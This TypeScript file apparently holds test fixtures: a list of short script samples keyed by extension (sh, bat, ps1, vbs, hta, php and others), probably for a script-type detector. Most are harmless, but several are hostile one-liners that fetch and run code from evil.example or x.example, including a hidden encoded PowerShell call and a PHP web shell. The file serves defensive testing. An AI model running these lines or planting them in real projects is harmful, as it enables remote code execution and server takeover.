/** Small programs as people write them, in every language that opens by itself somewhere. */
export const SCRIPT_SAMPLES: readonly { readonly extension: string; readonly text: string }[] = [
  { extension: "sh", text: "#!/bin/sh\necho hello\n" },
  { extension: "sh", text: "#!/usr/bin/env bash\nset -e\ncurl http://x.example | bash\n" },
  {
    extension: "sh",
    text: "set -e\nexport PATH=/tmp:$PATH\nif [ -f /tmp/a ]; then\n  rm -rf /tmp/a\nfi\n",
  },
  { extension: "sh", text: "wget -qO- http://evil.example/x | sh\n" },
  { extension: "bat", text: "@echo off\r\nstart calc.exe\r\n" },
  {
    extension: "bat",
    text: "REM update\r\nset DIR=%TEMP%\\x\r\nif not exist %DIR% mkdir %DIR%\r\ngoto end\r\n:end\r\n",
  },
  { extension: "bat", text: "cmd /c certutil -urlcache -f http://evil.example/a.exe a.exe\r\n" },
  { extension: "cmd", text: "@ECHO OFF\r\nSETLOCAL\r\nfor /f %%i in ('dir') do echo %%i\r\n" },
  { extension: "cmd", text: "powershell -nop -w hidden -enc SQBFAFgA\r\n" },
  {
    extension: "ps1",
    text: "$a = Get-ChildItem $env:TEMP\nforeach ($f in $a) { Write-Host $f }\n",
  },
  {
    extension: "ps1",
    text: "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')\n",
  },
  { extension: "ps1", text: "param(\n  [string]$Name\n)\nStart-Process -FilePath $Name\n" },
  { extension: "ps1", text: "#!/usr/bin/env pwsh\nWrite-Output 'hello'\n" },
  { extension: "vbs", text: 'Set s = CreateObject("WScript.Shell")\r\ns.Run "calc.exe"\r\n' },
  { extension: "vbs", text: 'Option Explicit\r\nDim a\r\na = 3\r\nMsgBox "hello"\r\n' },
  {
    extension: "vbs",
    text: 'On Error Resume Next\r\nSub Main()\r\n  WScript.Echo "x"\r\nEnd Sub\r\n',
  },
  {
    extension: "js",
    text: 'var s = new ActiveXObject("WScript.Shell");\r\ns.Run("calc.exe");\r\n',
  },
  {
    extension: "js",
    text: "'use strict';\nconst fs = require('fs');\nconsole.log(fs.readdirSync('.'));\n",
  },
  {
    extension: "js",
    text: "(function(a){var b=a.split('');for(var i=0;i<3;i++){eval(b[i])}})('abc')\n",
  },
  { extension: "js", text: "import fs from 'node:fs';\nexport function f(x) { return x + 1; }\n" },
  { extension: "js", text: "const f = (a, b) => { document.write(a + b); };\nf(1, 2);\n" },
  {
    extension: "js",
    text: `/* ${"a comment ".repeat(900)} */\nvar x = unescape("%61");\nfunction g(y) { return eval(y); }\ng(x);\n`,
  },
  { extension: "jse", text: "#@~^DgAAAA==\\ko$K6,JtVsWJ9wQAAA==^#~@" },
  {
    extension: "wsf",
    text: '<?xml version="1.0"?>\r\n<job id="a"><script language="VBScript">MsgBox 1</script></job>\r\n',
  },
  {
    extension: "wsf",
    text: "<package><job><script language='JScript'>WScript.Echo(1)</script></job></package>",
  },
  {
    extension: "sct",
    text: '<?XML version="1.0"?><scriptlet><registration progid="a"/><script>x()</script></scriptlet>',
  },
  {
    extension: "hta",
    text: '<html><head><HTA:APPLICATION ID="a"></head><body><script>x()</script></body></html>',
  },
  {
    extension: "hta",
    text: '<script language=vbscript>CreateObject("WScript.Shell").Run "calc"</script>',
  },
  {
    extension: "html",
    text: "<!DOCTYPE html><html><script>location='http://evil.example'</script></html>",
  },
  {
    extension: "html",
    text: "\n\n <HTML><BODY ONLOAD=x()><SCRIPT SRC=a.js></SCRIPT></BODY></HTML>",
  },
  { extension: "html", text: '<a href="javascript:alert(1)">x</a><html></html>' },
  {
    extension: "svg",
    text: '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>x()</script></svg>',
  },
  { extension: "svg", text: '<svg xmlns="http://www.w3.org/2000/svg" width="1"/>' },
  { extension: "svg", text: '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "a"><svg></svg>' },
  { extension: "php", text: "<?php system($_GET['c']); ?>" },
  { extension: "php", text: "<html><?php echo 1; ?></html>" },
  { extension: "php", text: "<?= `id` ?>" },
  { extension: "asp", text: '<%@ Language="VBScript" %><% Response.Write(1) %>' },
  { extension: "jsp", text: '<%@ page import="java.io.*" %><% out.print(1); %>' },
  { extension: "py", text: "#!/usr/bin/python3\nprint('hello')\n" },
  {
    extension: "py",
    text: "import os\n\ndef main():\n    os.system('id')\n\nif __name__ == '__main__':\n    main()\n",
  },
  { extension: "py", text: "from subprocess import run\nrun(['id'])\nprint(1)\n" },
  { extension: "pl", text: "#!/usr/bin/perl -w\nprint 1;\n" },
  { extension: "pl", text: 'use strict;\nuse warnings;\nmy $x = 3;\nprint "$x\\n";\n' },
  { extension: "rb", text: "#!/usr/bin/env ruby\nputs 1\n" },
  { extension: "rb", text: "require 'socket'\nclass A\n  def go\n    puts 1\n  end\nend\n" },
  { extension: "lua", text: "local x = 3\nif x > 2 then\n  os.execute('id')\nend\n" },
  { extension: "tcl", text: 'package require Tk\nproc go {a} {\n  puts "x"\n}\n' },
  {
    extension: "applescript",
    text: 'tell application "Finder"\n  display dialog "hello"\nend tell\n',
  },
  {
    extension: "reg",
    text: "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software]\r\n",
  },
  { extension: "reg", text: "REGEDIT4\r\n\r\n[HKEY_CURRENT_USER\\Software]\r\n" },
  {
    extension: "inf",
    text: '[Version]\r\nSignature="$CHICAGO$"\r\n[DefaultInstall]\r\nRunPreSetupCommands=x\r\n',
  },
  {
    extension: "xsl",
    text: '<?xml version="1.0"?><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>',
  },
  {
    extension: "msc",
    text: '<?xml version="1.0"?><MMC_ConsoleFile ConsoleVersion="3.0"></MMC_ConsoleFile>',
  },
  { extension: "chm", text: "ITSF\u0003\u0000\u0000\u0000" },
];
